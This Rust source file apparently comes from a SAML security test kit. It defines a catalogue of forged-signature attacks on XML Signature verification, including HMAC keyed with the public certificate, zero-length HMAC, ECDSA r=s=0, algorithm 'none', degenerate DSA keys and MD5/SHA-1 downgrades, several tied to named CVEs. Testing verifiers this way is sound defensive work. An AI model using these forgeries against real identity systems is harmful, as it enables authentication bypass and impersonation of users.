//! Attacks with algorithms that never proved anything, and with algorithms that are broken now.

use vouchsafe_crypto::{DigestAlgorithm, SignatureAlgorithm, base64_encode};

use super::key_substitution::{signed_by_hand, with_signature};
use super::md5::md5;
use super::scene::{Made, Scene};
use super::signature::{Draft, ENVELOPED, EXCLUSIVE, canonical, transforms, x509};
use super::surgery::{after, root};
use super::{Attack, Base, Kind};
use crate::{Signed, TestkitError};

const SECRET: &str = "CVE-2026-15013 (miniOrange)";
const HMAC_SHA1: &str = "http://www.w3.org/2000/09/xmldsig#hmac-sha1";
const HMAC_SHA384: &str = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha384";
const HMAC_SHA512: &str = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha512";
const HMAC_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256";
const RSA_MD5: &str = "http://www.w3.org/2001/04/xmldsig-more#rsa-md5";
const MD5: &str = "http://www.w3.org/2001/04/xmldsig-more#md5";
const ECDSA_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256";
const DSA_SHA1: &str = "http://www.w3.org/2000/09/xmldsig#dsa-sha1";

const fn row(name: &'static str, description: &'static str, make: fn(&Scene<'_>) -> Made) -> Attack {
    Attack::new(name, Kind::Algorithm, description, make).from(Base::Assertion)
}

pub(super) const ATTACKS: &[Attack] = &[
    row("algorithm/hmac-certificate", "HMAC whose secret is the certificate, in DER", |scene| {
        hmac(scene, certificate(scene).der())
    }),
    row("algorithm/hmac-certificate-pem", "HMAC whose secret is the certificate, in PEM", |scene| {
        hmac(scene, certificate(scene).to_pem().as_bytes())
    }),
    row("algorithm/hmac-certificate-base64", "HMAC whose secret is the certificate as in KeyInfo", |scene| {
        hmac(scene, certificate(scene).to_base64().as_bytes())
    }),
    row("algorithm/hmac-public-key", "HMAC whose secret is the public key, in DER", |scene| {
        hmac(scene, certificate(scene).spki_der())
    }),
    row("algorithm/hmac-public-key-pem", "HMAC whose secret is the public key, in PEM", |scene| {
        let key = scene.target().identity_provider.key();
        hmac(scene, key.private_key().public_key().to_pem().as_bytes())
    }),
    row("algorithm/hmac-empty-secret", "HMAC whose secret is empty", |scene| hmac(scene, b"")),
    row("algorithm/hmac-truncated", "HMAC cut to no bits at all", |scene| {
        made(scene, |draft| {
            let length = "<ds:HMACOutputLength>0</ds:HMACOutputLength>";
            Ok(draft.method(HMAC_SHA256).parameters(length).with_value(""))
        })
    })
    .known_as("CVE-2009-0217 (XML Signature)"),
    row("algorithm/hmac-sha1-public-key", "HMAC-SHA1 whose secret is the public key, in DER", |scene| {
        hmac_by(scene, HMAC_SHA1, DigestAlgorithm::Sha1, certificate(scene).spki_der())
    })
    .known_as(SECRET),
    row("algorithm/hmac-sha384-public-key", "HMAC-SHA384 whose secret is the public key, in DER", |scene| {
        hmac_by(scene, HMAC_SHA384, DigestAlgorithm::Sha384, certificate(scene).spki_der())
    })
    .known_as(SECRET),
    row("algorithm/hmac-sha512-public-key", "HMAC-SHA512 whose secret is the public key, in DER", |scene| {
        hmac_by(scene, HMAC_SHA512, DigestAlgorithm::Sha512, certificate(scene).spki_der())
    })
    .known_as(SECRET),
    row("algorithm/hmac-modulus", "HMAC whose secret is the modulus of the public key", |scene| {
        let (modulus, _) = super::der::rsa_numbers(certificate(scene).spki_der()).unwrap_or_default();
        hmac(scene, &modulus)
    })
    .known_as(SECRET),
    row(
        "algorithm/hmac-public-key-pem-trimmed",
        "HMAC whose secret is the public key, in PEM without its last line end",
        |scene| {
            let key = scene.target().identity_provider.key();
            hmac(scene, key.private_key().public_key().to_pem().trim_end().as_bytes())
        },
    )
    .known_as(SECRET),
    row("algorithm/hmac-under-rsa", "the HMAC of the public key under the name of RSA-SHA256", |scene| {
        let secret = certificate(scene).spki_der();
        hmac_by(scene, super::signature::RSA_SHA256, DigestAlgorithm::Sha256, secret)
    })
    .known_as(SECRET),
    row("algorithm/hmac-response", "the Response signed by HMAC whose secret is the public key", |scene| {
        let unsigned = scene.message_about(scene.victim()).sign(Signed::Neither).issue()?.into_xml();
        let signature = Draft::over(root(&unsigned))?
            .method(HMAC_SHA256)
            .key_info(&x509(&[certificate(scene)]))
            .with_hmac(DigestAlgorithm::Sha256, certificate(scene).spki_der())?;
        Ok(vec![scene.hostile(after(&unsigned, &["Response", "Issuer"], &signature)?)])
    })
    .from(Base::Response)
    .known_as(SECRET),
    row("algorithm/none", "the algorithm is called none, the value empty", |scene| {
        made(scene, |draft| Ok(draft.method("none").with_value("")))
    }),
    row("algorithm/unknown", "an unknown algorithm, with any value", |scene| {
        made(scene, |draft| Ok(draft.method("urn:example:always-right").with_value("AA==")))
    }),
    row("algorithm/no-method", "no SignatureMethod", |scene| {
        made(scene, |draft| Ok(draft.method("").with_value("AA==")))
    }),
    row("algorithm/ecdsa-zero", "ECDSA signature with r = s = 0", |scene| {
        made(scene, |draft| Ok(draft.method(ECDSA_SHA256).with_value(&base64_encode(&[0; 64]))))
    })
    .known_as("CVE-2022-21449 (Java)"),
    row(
        "algorithm/dsa-generator-one",
        "DSA key in KeyInfo with g = y = 1, for which (1, 1) signs everything",
        |scene| {
            let numbers = ["P", "Q", "G", "Y"].into_iter().zip([DSA_P, DSA_Q, &[1], &[1]]);
            let numbers: String = numbers
                .map(|(name, number)| format!("<ds:{name}>{}</ds:{name}>", base64_encode(number)))
                .collect();
            let key = format!("<ds:KeyValue><ds:DSAKeyValue>{numbers}</ds:DSAKeyValue></ds:KeyValue>");
            let mut value = [0; 40];
            for byte in value.iter_mut().skip(19).step_by(20) {
                *byte = 1;
            }
            made(scene, |draft| Ok(draft.method(DSA_SHA1).key_info(&key).with_value(&base64_encode(&value))))
        },
    ),
    row("algorithm/rsa-zero", "RSA signature with the value 0", |scene| {
        made(scene, |draft| Ok(draft.with_value(&base64_encode(&[0; 256]))))
    }),
    row("algorithm/rsa-md5", "the right key, under the name RSA-MD5", |scene| {
        let key = scene.target().identity_provider.key();
        about_the_attacker(scene, |assertion| {
            Draft::over(assertion)?.method(RSA_MD5).signed_by(key.private_key())
        })
    }),
    row("algorithm/md5-digest", "the right key over an MD5 digest", |scene| {
        let key = scene.target().identity_provider.key();
        about_the_attacker(scene, |assertion| {
            let digest = base64_encode(&md5(&canonical(assertion)?));
            let uri = format!("#{}", scene.assertion_id());
            Draft::new()
                .reference(Some(&uri), &transforms(&[ENVELOPED, EXCLUSIVE]), MD5, &digest)
                .signed_by(key.private_key())
        })
    }),
    row("algorithm/rsa-sha1", "the right key with RSA-SHA1, both signed", |scene| {
        let response = scene.message().signature_algorithm(SignatureAlgorithm::RsaSha1).issue()?;
        Ok(vec![scene.hostile(response.xml())])
    })
    .from(Base::Both),
    row("algorithm/sha1-digest", "the right key over a SHA-1 digest, both signed", |scene| {
        let response = scene.message().digest(DigestAlgorithm::Sha1).issue()?;
        Ok(vec![scene.hostile(response.xml())])
    })
    .from(Base::Both),
];

/// These are not primes: a verifier that uses a key from a message without checking it does not check this either.
const DSA_P: &[u8] = &[0xff; 128];
const DSA_Q: &[u8] = &[0xff; 20];

fn certificate<'s>(scene: &'s Scene<'_>) -> &'s vouchsafe_crypto::Certificate {
    scene.target().identity_provider.key().certificate()
}

fn hmac(scene: &Scene<'_>, secret: &[u8]) -> Made {
    hmac_by(scene, HMAC_SHA256, DigestAlgorithm::Sha256, secret)
}

fn hmac_by(scene: &Scene<'_>, method: &str, algorithm: DigestAlgorithm, secret: &[u8]) -> Made {
    made(scene, |draft| {
        draft.method(method).key_info(&x509(&[certificate(scene)])).with_hmac(algorithm, secret)
    })
}

/// Returns a message about the victim, with the right digest and any signature value.
fn made(scene: &Scene<'_>, finish: impl FnOnce(Draft) -> Result<String, TestkitError>) -> Made {
    let message = signed_by_hand(scene, |assertion| finish(Draft::over(assertion)?))?;
    Ok(vec![scene.hostile(message)])
}

/// Returns a message about the attacker that the identity provider signs in a way that is broken now.
fn about_the_attacker(scene: &Scene<'_>, sign: impl FnOnce(&str) -> Result<String, TestkitError>) -> Made {
    let unsigned = scene.message().sign(Signed::Neither).issue()?.into_xml();
    Ok(vec![scene.hostile(with_signature(&unsigned, sign)?)])
}
